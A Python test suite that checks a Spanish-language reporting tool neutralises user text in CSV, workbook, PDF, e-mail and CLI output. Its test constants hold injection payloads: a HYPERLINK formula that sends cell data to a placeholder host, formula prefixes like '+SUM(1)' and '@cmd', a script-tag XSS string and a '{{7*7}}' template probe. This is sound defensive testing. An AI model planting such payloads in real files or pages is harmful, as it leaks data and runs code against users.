"""Text users typed never reaches a renderer as markup or as a formula:
charts (mathtext), PDF (HTML), workbook, CSV (read back with csv and with
LibreOffice), e-mail and the command line's CSV and tables."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import shutil
import subprocess
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.engine import Engine
from sqlmodel import Session

from config import load_settings
from importer import import_file
from models import OutboxMessage, Region
from reports.build import build_package
from reports.open_data import write_csv as write_open_csv
from reports.periods import parse_period
from reports.safe_text import CSV_NOTE, neutralise_cell
from tests.cycle_helpers import run_day, settings_for
from tests.helpers import Cli, row, write_csv

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
MATH = "Fondo $\\x$ Regional"
FORMULA = '=HYPERLINK("http://x/?"&B2)'
SCRIPT = "<script>alert(1)</script>"
MARKUP = f"[/x] {SCRIPT} {{{{7*7}}}} [bold]negrita[/bold]"
DAY = date(2026, 10, 1)
FIELDS = {  # import column → hostile text
    "institucion": MATH,
    "compromiso": FORMULA,
    "fuente": "+SUM(1)",
    "programa": "@cmd",
    "productos": "-2+3",
    "acta_instancia": "{{7*7}}",
    "responsable": SCRIPT,
}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (FORMULA, "'" + FORMULA),
        ("+SUM(1)", "'+SUM(1)"),
        ("-2+3", "'-2+3"),
        ("@cmd", "'@cmd"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        (MATH, MATH),
        (SCRIPT, SCRIPT),
        ("{{7*7}}", "{{7*7}}"),
        ("2026-10-01", "2026-10-01"),
        ("Transferir = pagar", "Transferir = pagar"),
        ("", ""),
    ],
)
def test_neutralise_cell(text: str, expected: str) -> None:
    assert neutralise_cell(text) == expected


def _load(engine: Engine, tmp_path: Path) -> None:
    header = ["region", "territorio", "acta_fecha", "acta_instancia", "acta_numero",
              "institucion", "institucion_rut", "responsable", "responsable_email",
              "institucion_director_email", "territorio_gerente_email", "compromiso",
              "monto", "fuente", "plazo", "programa", "productos", "beneficiarios"]  # fmt: skip
    rows = [
        row(institucion_rut="", monto="15000000", plazo=DAY.isoformat(), beneficiarios="4",
            **FIELDS),
        row(compromiso=MARKUP, institucion_rut="", monto="2000000", plazo=DAY.isoformat()),
    ]  # fmt: skip
    report = import_file(engine, write_csv(tmp_path / "a.csv", rows, header=header), actor="t")
    assert report.commitments == 2


def _build(engine: Engine, database_url: str, tmp_path: Path):  # type: ignore[no-untyped-def]
    settings = load_settings(database_url=database_url, data_dir=tmp_path / "var")
    with Session(engine) as session:
        region = session.get(Region, 2)
    assert region is not None
    now = datetime(2026, 10, 1, 12, tzinfo=UTC)
    return build_package(engine, settings, region, parse_period("2026-Q3"), now=now)


def _csv_rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))


def test_package_renders_hostile_text_as_text(
    engine: Engine, database_url: str, tmp_path: Path
) -> None:
    _load(engine, tmp_path)
    built = _build(engine, database_url, tmp_path)
    folder = built.folder

    records = {r["compromiso"]: r for r in _csv_rows(folder / "compromisos.csv")}
    assert set(records) == {"'" + FORMULA, MARKUP}
    hostile = records["'" + FORMULA]
    assert (hostile["institucion"], hostile["fuente"], hostile["programa"]) == (
        MATH, "'+SUM(1)", "'@cmd"
    )  # fmt: skip
    assert hostile["productos"] == "'-2+3"
    assert hostile["acta"].startswith("Acta de {{7*7}} N° 12")
    assert (hostile["monto"], hostile["acta_fecha"], hostile["beneficiarios"]) == (
        "15000000", "2026-06-15", "4"
    )  # fmt: skip

    document = json.loads((folder / "compromisos.json").read_text(encoding="utf-8"))
    exact = {r["compromiso"]: r for r in document["compromisos"]}
    assert set(exact) == {FORMULA, MARKUP}
    assert (exact[FORMULA]["fuente"], exact[FORMULA]["productos"]) == ("+SUM(1)", "-2+3")
    descriptor = json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))
    resource = next(r for r in descriptor["resources"] if r["path"] == "compromisos.csv")
    assert resource["description"] == CSV_NOTE

    workbook = load_workbook(folder / "planilla.xlsx")
    texts = []
    for sheet in workbook.worksheets:
        for line in sheet.iter_rows():
            for cell in line:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                texts.append(cell.value)
    assert {FORMULA, MARKUP, MATH, "+SUM(1)", "@cmd", "-2+3"} <= set(texts)

    pdf = subprocess.run(
        ["pdftotext", "-raw", str(folder / "informe.pdf"), "-"],
        check=True, capture_output=True, text=True,
    ).stdout  # fmt: skip
    flat = " ".join(pdf.split())
    for text in (MATH, SCRIPT, "{{7*7}}", '=HYPERLINK("http://x/?"&B2)'):
        assert text in flat, text


def test_csv_keeps_numbers_numeric(engine: Engine, database_url: str, tmp_path: Path) -> None:
    """A negative number in a numeric column is a number, not a formula."""
    _load(engine, tmp_path)
    record = _build(engine, database_url, tmp_path).figures.records[0]
    odd = dataclasses.replace(record, monto=-2, compromiso="-2", dias_atraso=-3)
    write_open_csv(tmp_path / "x.csv", [odd])
    [back] = _csv_rows(tmp_path / "x.csv")
    assert (back["monto"], back["dias_atraso"], back["compromiso"]) == ("-2", "-3", "'-2")


@pytest.mark.slow
@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice no está instalado")
def test_libreoffice_opens_the_package_csv_without_formulas(
    engine: Engine, database_url: str, tmp_path: Path
) -> None:
    _load(engine, tmp_path)
    source = _build(engine, database_url, tmp_path).folder / "compromisos.csv"
    subprocess.run(
        [str(SOFFICE), f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}", "--headless",
         "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx:Calc MS Excel 2007 XML",
         "--outdir", str(tmp_path / "out"), str(source)],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    sheet = load_workbook(tmp_path / "out" / "compromisos.xlsx").worksheets[0]
    header = [cell.value for cell in sheet[1]]
    lines = list(sheet.iter_rows(min_row=2))
    assert len(lines) == 2
    for line in lines:
        for cell in line:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
    values = {line[header.index("compromiso")].value: line for line in lines}
    # LibreOffice keeps the apostrophe: the cell reads as the text it was.
    assert set(values) == {"'" + FORMULA, MARKUP}
    hostile = values["'" + FORMULA]
    assert hostile[header.index("monto")].value == 15_000_000
    assert hostile[header.index("fuente")].value == "'+SUM(1)"


def test_digest_escapes_hostile_text(engine: Engine, database_url: str, tmp_path: Path) -> None:
    _load(engine, tmp_path)
    settings = settings_for(tmp_path, database_url, None)
    run_day(engine, settings, DAY)
    with Session(engine) as session:
        message = session.scalars(
            select(OutboxMessage).where(OutboxMessage.recipient == "marcela.jara@fosis.cl.example")
        ).one()
    assert SCRIPT not in message.body_html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in message.body_html
    assert "{{7*7}}" in message.body_text and "{{7*7}}" in message.body_html
    assert FORMULA in message.body_text and MATH in message.body_text
    assert "\n" not in message.subject


def test_command_line_csv_and_table(engine: Engine, database_url: str, tmp_path: Path) -> None:
    _load(engine, tmp_path)
    listed, exact_json, table, shown, report = Cli(tmp_path, database_url).batch(
        [
            ["commitments", "list", "--on", "2026-09-30", "--format", "csv"],
            ["commitments", "list", "--on", "2026-09-30", "--format", "json"],
            ["commitments", "list", "--on", "2026-09-30"],
            ["commitments", "show", str(_id_of(engine, MARKUP)), "--on", "2026-09-30"],
            ["report", "--region", "Antofagasta", "--period", "2026-Q3"],
        ]
    )
    assert listed.returncode == 0, listed.stderr
    rows = {r["compromiso"]: r for r in csv.DictReader(io.StringIO(listed.stdout))}
    assert set(rows) == {"'" + FORMULA, MARKUP}
    assert rows["'" + FORMULA]["fuente"] == "'+SUM(1)"
    assert rows["'" + FORMULA]["monto"] == "15000000"
    assert rows["'" + FORMULA]["plazo"] == "2026-10-01"
    exact = {r["compromiso"] for r in Cli.records(exact_json)}
    assert exact == {FORMULA, MARKUP}

    assert table.returncode == 0, table.stderr
    assert "[/x]" in table.stdout and "[bold]negrita[/bold]" in table.stdout
    assert shown.returncode == 0, shown.stderr
    assert "[bold]negrita[/bold]" in shown.stdout

    assert report.returncode == 0, report.stderr
    assert "Paquete de la Región de Antofagasta" in report.stdout


def _id_of(engine: Engine, text: str) -> int:
    from models import Commitment

    with Session(engine) as session:
        found = session.scalars(select(Commitment.id).where(Commitment.text == text)).one()
    return int(found)


def test_report_to_an_unwritable_place_is_a_spanish_message(
    engine: Engine, database_url: str, tmp_path: Path
) -> None:
    _load(engine, tmp_path)
    (tmp_path / "archivo").write_text("no es carpeta")
    result = Cli(tmp_path, database_url)(
        "report", "--region", "Antofagasta", "--period", "2026-Q3",
        "--out", str(tmp_path / "archivo" / "paquete"),
    )  # fmt: skip
    assert result.returncode == 1
    assert "No se pudo escribir el paquete en" in result.stderr
